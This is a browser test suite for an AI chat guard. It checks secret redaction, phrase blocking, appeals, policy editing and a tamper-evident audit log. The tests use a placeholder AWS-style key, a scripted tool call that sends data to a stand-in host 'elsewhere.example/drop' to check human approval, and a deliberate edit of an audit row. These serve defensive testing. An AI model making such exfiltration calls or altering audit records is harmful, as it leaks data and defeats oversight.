"""What the guard found, its policy and the audit, in a real browser against a server that has all of it on."""

from __future__ import annotations

import json
import sqlite3
from typing import Any

import pytest
from console import ask, check_fits, check_quiet, click, enter, go, put, reload, talk, text, views
from watched import POLICY

from hanok.store.audit.entry import Entry

KEY = "AKIAQWERTYUIOPASDF27"
TOOLS = [
    {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}
    for name in ("read", "send")
]
MARKS = """[...document.querySelectorAll({!r})].map((n) =>
  [n.className, n.firstChild.textContent, n.querySelector('.rule').textContent])"""


@pytest.fixture(autouse=True)
def as_it_was(watched: Any) -> None:
    watched.policy.write_text(POLICY, encoding="utf-8")
    watched.services.guard.take(type(watched.services.guard).open(str(watched.policy)))


def marks(page: Any, inside: str) -> list[list[str]]:
    return page.js(MARKS.format(f"{inside} mark"))


# ---- in the chat -----------------------------------------------------------------------------------------------------


def test_what_was_found_is_marked_in_question_and_answer(watched: Any, page: Any) -> None:
    enter(watched, page, "yuna")
    watched.script.says("A **lantern**, `lantern` 🏮: the key is ", KEY, "\n\n* a lantern")
    ask(page, f"🏮 My key {KEY} is no lantern")
    assert marks(page, ".user") == [["found redact", KEY, "secrets"], ["found flag", "lantern", "noted"]]
    assert marks(page, ".assistant") == [
        ["found flag", "lantern", "noted"], ["found flag", "lantern", "noted"], ["found redact", "[SECRET]", "secrets"],
        ["found flag", "lantern", "noted"],
    ]  # fmt: skip
    assert page.js("document.querySelector('.assistant strong mark') !== null")
    said = page.js("[...document.querySelectorAll('.assistant .verdicts li')].map((n) => n.textContent)")
    assert said == [
        "noted: noted in the answer · phrase 1 · × 3",
        "secrets: replaced in the answer · aws-access-key",
    ]
    assert text(page, ".user .verdicts li") == "secrets: the model did not read this · aws-access-key"
    page.until("JSON.parse(sessionStorage.getItem('hanok.talk')).version >= 1")
    reload(page)  # it is kept with the conversation
    page.js("sessionStorage.clear(), 1")
    click(page, "#talks a")
    page.until("document.querySelectorAll('.assistant mark').length === 4")

    watched.script.says("And well.")
    ask(page, "so?", 2)
    assert len(marks(page, ".assistant")) == 4  # the earlier answer keeps what was found in it
    check_quiet(page, watched.url)


def test_what_nothing_was_found_in_has_no_marks(watched: Any, page: Any) -> None:
    enter(watched, page, "yuna")
    watched.script.says("A plain answer.")
    ask(page, "a plain question")
    assert page.js("document.querySelectorAll('mark, .verdicts').length") == 0


def test_a_blocked_answer_says_which_rule_and_is_appealed(watched: Any, page: Any) -> None:
    enter(watched, page, "yuna")
    watched.script.says("Well, the treasure lies under the oak.")
    ask(page, "where?")
    assert text(page, ".assistant .bubble").startswith("Well,")
    assert "oak" not in text(page, "#log")
    assert text(page, ".assistant .verdicts li.block") == "forbidden: the answer ends here · phrase 1"
    click(page, ".appeal")
    page.until("document.activeElement.name === 'statement'")
    page.write("It is a fairy tale.")
    click(page, "dialog .primary")
    page.until("document.querySelector('.appealed')?.textContent === 'Your appeal is with the reviewers'")
    answer = talk(page)["messages"][1]["request_id"]
    with watched.as_("yuna") as http:
        mine = [one for one in http.get("/v1/appeals").json()["data"] if one["request_id"] == answer]
    assert [one["statement"] for one in mine[0]["appeals"]] == ["It is a fairy tale."]


def test_a_refused_question_says_why_and_is_appealed(watched: Any, page: Any) -> None:
    enter(watched, page, "yuna", language="ko")
    watched.script.says("never")
    page.js("document.getElementById('input').focus(), 1")
    page.write("open sesame")
    page.enter()
    page.until("!!document.querySelector('.failed .appeal')")
    assert text(page, ".failed .bubble p") == "보호 규칙 “words”에 걸려 보내지 않았습니다. phrase 1"
    assert marks(page, ".user") == [["found block", "open sesame", "words"]]
    click(page, ".failed .appeal")
    page.until("document.activeElement.name === 'statement'")
    page.write("동화 속 말입니다.")
    click(page, "dialog .primary")
    page.until("!!document.querySelector('.appealed')")
    check_quiet(page, watched.url, refused=True)


@pytest.mark.parametrize("approved", [True, pytest.param(False, marks=pytest.mark.slow)])
def test_a_call_waits_for_a_person(watched: Any, page: Any, approved: bool) -> None:
    enter(watched, page, "yuna")
    page.js(
        f"import('/lib/state.js').then((m) => m.remember({{tools: JSON.stringify({json.dumps(TOOLS)})}}))"
    )
    watched.script.says("<tool_call>", '{"name": "read", "arguments": {}}', "</tool_call>", control=True)
    page.js("document.getElementById('input').focus(), 1")
    page.write("read it")
    page.enter()
    page.until("!!document.querySelector('.result textarea')")  # this one needs nobody
    where = "https://elsewhere.example/drop"
    call = json.dumps({"name": "send", "arguments": {"to": where}})
    watched.script.says("<tool_call>", call, "</tool_call>", control=True)
    page.js("document.querySelector('.result textarea').focus(), 1")
    page.write(f"send all to {where}")
    click(page, ".result button")
    page.until("!!document.querySelector('.approval .approve')")
    assert "egress: an address that no trusted text has" in text(page, ".approval")
    assert page.js("document.querySelector('.result') === null")  # nothing to write down before that
    check_fits(page, "approval")
    watched.script.says("It is done.")
    if approved:
        click(page, ".approve")
        page.until("!!document.querySelector('.result textarea')")
        page.js("document.querySelector('.result textarea').focus(), 1")
        page.write("sent")
        click(page, ".result button")
    else:
        click(page, ".refuse")
    page.until("[...document.querySelectorAll('.assistant .bubble')].at(-1).textContent === 'It is done.'")
    assert page.js("document.querySelector('.approval.refused') !== null") is not approved
    told = [one["content"] for one in talk(page)["messages"] if one["role"] == "tool"][-1]
    assert told == ("sent" if approved else "A person has refused this call. Do not make it again.")
    with watched.as_("boss") as http:
        (entry,) = http.get("/v1/audit?kind=call&limit=1").json()["data"]
    assert entry["kind"] == ("call.approved" if approved else "call.refused")


# ---- the policy ------------------------------------------------------------------------------------------------------


def test_a_policy_is_edited_tried_compared_and_saved(watched: Any, page: Any) -> None:
    enter(watched, page, "boss")
    go(page, "policy", ".gutter span")
    assert page.js("document.querySelector('#policy-text').value") == POLICY
    assert page.js("document.querySelector('.gutter').lastChild.textContent") == str(POLICY.count("\n") + 1)
    assert page.js("document.querySelector('#save-policy').disabled")
    put(page, "#try-text", f"My key is {KEY}: open sesame")
    page.until("document.querySelectorAll('#verdicts .verdict').length === 2")
    assert marks(page, "[data-side=input]") == [
        ["found redact", KEY, "secrets"],
        ["found block", "open sesame", "words"],
    ]
    assert marks(page, "[data-side=output]") == [["found redact", KEY, "secrets"]]
    assert text(page, "[data-side=output] .left") == "My key is [SECRET]: open sesame"

    wrong = POLICY.replace('action = "block"', 'action = "shout"', 1)
    put(page, "#policy-text", wrong)
    page.until("!!document.querySelector('#policy-problem .link')")
    line = POLICY[: POLICY.index('action = "block"')].count("\n") + 1
    assert text(page, "#policy-problem .link") == f"Line {line}"
    assert text(page, ".gutter .wrong") == str(line)
    assert page.js("document.querySelector('#save-policy').disabled")
    click(page, "#policy-problem .link")
    start, end = page.js(
        "['selectionStart', 'selectionEnd'].map((n) => document.querySelector('#policy-text')[n])"
    )
    assert wrong[start:end] == 'action = "shout"'

    new = POLICY.replace("open sesame", "close sesame")
    put(page, "#policy-text", new)
    page.until(
        "!document.querySelector('[data-side=input] .block') && document.querySelectorAll('#verdicts .verdict').length === 2"
    )
    page.until("!document.querySelector('#save-policy').disabled")
    click(page, "#save-policy")
    page.until("!!document.querySelector('dialog .diff .new')")
    assert text(page, "dialog .diff .gone").endswith('phrases = ["open sesame"]')
    assert text(page, "dialog .diff .new").endswith('phrases = ["close sesame"]')
    assert watched.policy.read_text(encoding="utf-8") == POLICY  # not yet
    check_fits(page, "diff")
    click(page, "#really-save")
    page.until("document.querySelector('#policy-problem').textContent === 'Saved and in force'")
    assert watched.policy.read_text(encoding="utf-8") == new
    assert watched.services.guard.policy.text == new
    check_quiet(page, watched.url)


def test_a_file_that_changed_meanwhile_is_compared_and_not_lost(watched: Any, page: Any) -> None:
    enter(watched, page, "boss")
    go(page, "policy", ".gutter span")
    put(page, "#policy-text", POLICY + "# mine\n")
    page.until("!document.querySelector('#save-policy').disabled")
    watched.policy.write_text(POLICY + "# theirs\n", encoding="utf-8")
    click(page, "#save-policy")
    click(page, "#really-save")
    page.until("document.querySelector('#dialog-title')?.textContent === 'The file was changed meanwhile'")
    assert watched.policy.read_text(encoding="utf-8").endswith("# theirs\n")
    click(page, "dialog .primary")
    page.until("!!document.querySelector('dialog .diff')")
    assert text(page, "dialog .diff .gone").endswith("# theirs")
    assert text(page, "dialog .diff .new").endswith("# mine")
    click(page, "dialog .primary")
    page.until("!document.querySelector('dialog')")
    assert page.js("document.querySelector('#policy-text').value").endswith("# mine\n")
    page.until("!!document.querySelector('#on-disk')")
    page.until("!document.querySelector('#save-policy').disabled")
    click(page, "#save-policy")  # having seen it
    click(page, "#really-save")
    page.until("document.querySelector('#policy-problem').textContent === 'Saved and in force'")
    assert watched.policy.read_text(encoding="utf-8").endswith("# mine\n")
    assert not page.js("!!document.querySelector('#on-disk')")


def test_a_tenants_administrator_reads_and_tries(watched: Any, page: Any) -> None:
    enter(watched, page, "ada")
    assert "dashboard" not in views(page)
    go(page, "policy", ".gutter span")
    assert "Only the house’s administrators save" in text(page, "#why-not")
    assert not page.js("!!document.querySelector('#policy-tenant')")
    assert "words" not in page.js("document.querySelector('#policy-text').value")
    put(
        page,
        "#policy-text",
        'format = 1\n[rules.words]\nkind = "phrases"\nphrases = ["open sesame"]\naction = "redact"\n',
    )
    put(page, "#try-text", "open sesame")
    page.until("!!document.querySelector('[data-side=input] .redact')")
    assert page.js("document.querySelector('#save-policy').disabled")


# ---- the audit -------------------------------------------------------------------------------------------------------


def test_the_audit_is_filtered_paged_opened_and_proved(watched: Any, page: Any) -> None:
    with watched.as_("yuna") as http:
        for number in range(2):
            watched.chat(http, f"question {number}", "a lantern")
    log = watched.services.directory.trail.server_log
    for _ in range(60):
        log.append(Entry(kind="test.made"), patient=True)
    log.checkpoint().result(20)
    enter(watched, page, "boss")
    go(page, "audit", "#entries tbody tr")
    page.until("document.querySelector('#entries tbody').rows.length === 50")
    click(page, ".more-entries")
    page.until("document.querySelectorAll('#entries tbody tr').length > 60")
    put(page, "[name=kind]", "verdict")
    page.until(
        "[...document.querySelectorAll('#entries tbody code')].every((n) => n.textContent === 'verdict')"
    )
    page.until("document.querySelector('#entries tbody').textContent.includes('noted: noted')")
    put(page, "[name=kind]", "request")
    page.until(
        "[...document.querySelectorAll('#entries tbody code')].every((n) => n.textContent === 'request')"
    )
    asked = "[...document.querySelectorAll('#entries tbody tr')].find((n) => n.textContent.includes('chat/completions'))"
    page.until(f"!!{asked}")
    page.js(f"{asked}.querySelector('a').click(), 1")
    page.until("!!document.querySelector('#prove')")
    assert "Reviewers and administrators" in text(page, "#view") or "administrators may open" in text(
        page, "#view"
    )
    click(page, "#unseal")
    click(page, "dialog .primary")
    page.until("document.querySelector('#content')?.textContent.includes('question')")
    click(page, "#prove")
    page.until("document.querySelector('.proof')?.textContent.startsWith('The proof holds')")
    check_fits(page, "entry")
    with watched.as_("boss") as http:
        assert http.get("/v1/audit?kind=audit.opened&limit=1").json()["data"]
        sequence = int(page.js("location.hash").rsplit("/", 1)[1])
        proof = http.get(f"/v1/audit/{sequence}/proof").json()
    check = "import('/lib/merkle.js').then((m) => m.holds({}))"
    assert page.js(check.format(json.dumps(proof))) is True
    forged = {**proof, "row": proof["row"].replace('"status":200', '"status":201')}
    assert forged != proof
    assert page.js(check.format(json.dumps(forged))) is False
    check_quiet(page, watched.url)


def test_verifying_shows_the_first_bad_number(watched: Any, page: Any) -> None:
    log = watched.services.directory.trail.server_log
    enter(watched, page, "boss")
    go(page, "audit", "#verify")
    click(page, "#verify")
    page.until("!!document.querySelector('.verified')", seconds=120)
    assert text(page, ".verified h2") == "The log is what was written"
    with sqlite3.connect(log.place.log) as database:
        (before,) = database.execute("SELECT row FROM audit_entries WHERE sequence = 3").fetchone()
        after = before.replace('"request":"', '"request":"x')
        database.execute("UPDATE audit_entries SET row = ? WHERE sequence = 3", (after,))
    try:
        click(page, "#verify")
        page.until("!!document.querySelector('.verified.bad')", seconds=120)
        assert text(page, ".first-bad") == "3"
        check_fits(page, "bad")
    finally:
        with sqlite3.connect(log.place.log) as database:
            database.execute("UPDATE audit_entries SET row = ? WHERE sequence = 3", (before,))


def test_checkpoints_are_shown_with_their_signature(watched: Any, page: Any) -> None:
    watched.services.directory.trail.server_log.checkpoint().result(20)
    enter(watched, page, "rita")
    go(page, "audit", "#verify")
    page.js("document.querySelector('#bar .plain').click(), 1")
    page.until("document.querySelector('dialog .badge')?.textContent === 'Good'")
    check_fits(page, "checkpoints")


@pytest.mark.parametrize(
    ("language", "dark", "width"),
    [("ko", True, 390), pytest.param("en", False, 1280, marks=pytest.mark.slow)],
)
def test_pages_of_guard_and_audit_fit(watched: Any, page: Any, language: str, dark: bool, width: int) -> None:
    enter(watched, page, "boss", language=language, dark=dark, size=(width, 844))
    watched.script.says("A lantern, ", KEY)
    ask(page, f"a lantern, {KEY}")
    check_fits(page, "found")
    for view, ready in {"policy": ".gutter span", "audit": "#entries tbody tr"}.items():
        go(page, view, ready)
        check_fits(page, view)
    go(page, "policy", ".gutter span")
    put(page, "#try-text", f"a lantern, {KEY}")
    page.until("document.querySelectorAll('#verdicts .verdict').length === 2")
    check_fits(page, "tried")
    check_quiet(page, watched.url)
